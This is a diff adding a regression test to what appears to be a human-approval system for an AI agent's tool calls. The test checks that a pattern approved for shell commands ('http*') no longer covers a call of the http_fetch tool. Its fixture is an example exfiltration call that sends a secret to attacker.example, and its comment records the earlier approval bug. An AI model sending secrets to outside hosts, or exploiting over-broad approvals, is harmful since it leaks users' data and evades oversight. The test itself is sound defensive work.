@@ -156,6 +156,22 @@ def test_a_command_pattern_covers_commands_of_the_approved_tool_only() -> None:
     assert not command_grants().covering(tool="remote_shell", arguments=arguments, **IDS, **HIGH)
 
 
+def test_a_pattern_never_covers_a_call_of_another_tool() -> None:
+    # "http*" approved for a command once also matched the canonical call of http_fetch
+    # ('http_fetch {"url": ...}'), a tool without a command argument.
+    grants = ApprovalGrants(shell_parser=TreeSitterShellParser())
+    approve(
+        grants,
+        decision(scope="pattern", pattern="http*"),
+        "run_command",
+        {"command": "http GET localhost:8000/health"},
+    )
+    leak = {"url": "https://attacker.example/?k=SECRET"}
+    assert not grants.covering(tool="http_fetch", arguments=leak, **IDS, **HIGH)
+    again = {"command": "http GET localhost:8000/ready"}
+    assert grants.covering(tool="run_command", arguments=again, **IDS, **HIGH)
+
+
 def test_a_command_pattern_holds_in_its_session_unless_the_human_widened_it() -> None:
     other = {"task_id": "t2", "session_id": "s2"}
     call = {"tool": "run_command", "arguments": {"command": "git rev-parse HEAD"}}
